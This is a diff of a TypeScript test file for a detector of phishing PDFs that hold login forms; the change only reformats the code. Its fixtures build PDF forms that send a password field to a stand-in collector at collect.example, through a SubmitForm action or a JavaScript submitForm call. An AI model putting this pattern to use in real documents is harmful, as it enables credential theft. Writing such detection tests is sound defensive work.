@@ -17,7 +17,11 @@ function loginForm(opts: { password?: string; submit?: string; script?: string }
       const user = b.add("<< /FT /Tx /T (email) /Rect [72 600 300 620] /Subtype /Widget >>");
       const fields = [user];
       if (opts.password) fields.push(b.add(`<< /FT /Tx ${opts.password} /Rect [72 560 300 580] /Subtype /Widget >>`));
-      const action = opts.submit ? `/A << /S /SubmitForm /F << /FS /URL /F ${pdfString(opts.submit)} >> /Flags 4 >>` : opts.script ? `/A << /S /JavaScript /JS ${hexString(opts.script)} >>` : "";
+      const action = opts.submit
+        ? `/A << /S /SubmitForm /F << /FS /URL /F ${pdfString(opts.submit)} >> /Flags 4 >>`
+        : opts.script
+          ? `/A << /S /JavaScript /JS ${hexString(opts.script)} >>`
+          : "";
       fields.push(b.add(`<< /FT /Btn /Ff 65536 /T (login) /Rect [72 500 200 530] /Subtype /Widget ${action} >>`));
       return { catalog: `/AcroForm << /Fields [${fields.map((f) => `${f} 0 R`).join(" ")}] >>` };
     },
@@ -33,11 +37,18 @@ describe("lure-login-form", () => {
   });
 
   it("fires on a password field (flag) submitted to a web server", () => {
-    expect(check(loginForm({ password: "/T (secret) /Ff 8192", submit: "https://collect.example/post.php" }))?.confidence).toBe("high");
+    expect(
+      check(loginForm({ password: "/T (secret) /Ff 8192", submit: "https://collect.example/post.php" }))?.confidence,
+    ).toBe("high");
   });
 
   it("fires on a password-like name and a script's submitForm", () => {
-    const hit = check(loginForm({ password: "/T (Passwort)", script: 'this.submitForm({cURL: "https://collect.example/p", cSubmitAs: "HTML"});' }));
+    const hit = check(
+      loginForm({
+        password: "/T (Passwort)",
+        script: 'this.submitForm({cURL: "https://collect.example/p", cSubmitAs: "HTML"});',
+      }),
+    );
     expect(hit?.confidence).toBe("medium");
   });
 
@@ -59,7 +70,17 @@ describe("lure-login-form", () => {
     expect(check(loginForm({ password: "/T (pwd) /Ff 8192", submit: "mailto:hr@example.com" }))).toBeNull();
   });
 
-  it.each(["Şifre", "Hasło", "Parola", "パスワード", "登录密码", "비밀번호", "كلمة المرور", "Mot de passe", "Contraseña"])("takes a field named %s for a password field", (name) => {
+  it.each([
+    "Şifre",
+    "Hasło",
+    "Parola",
+    "パスワード",
+    "登录密码",
+    "비밀번호",
+    "كلمة المرور",
+    "Mot de passe",
+    "Contraseña",
+  ])("takes a field named %s for a password field", (name) => {
     const utf16 = `<feff${Buffer.from(name, "utf16le").swap16().toString("hex")}>`;
     expect(check(loginForm({ password: `/T ${utf16}`, submit: "https://collect.example/post.php" }))).not.toBeNull();
   });
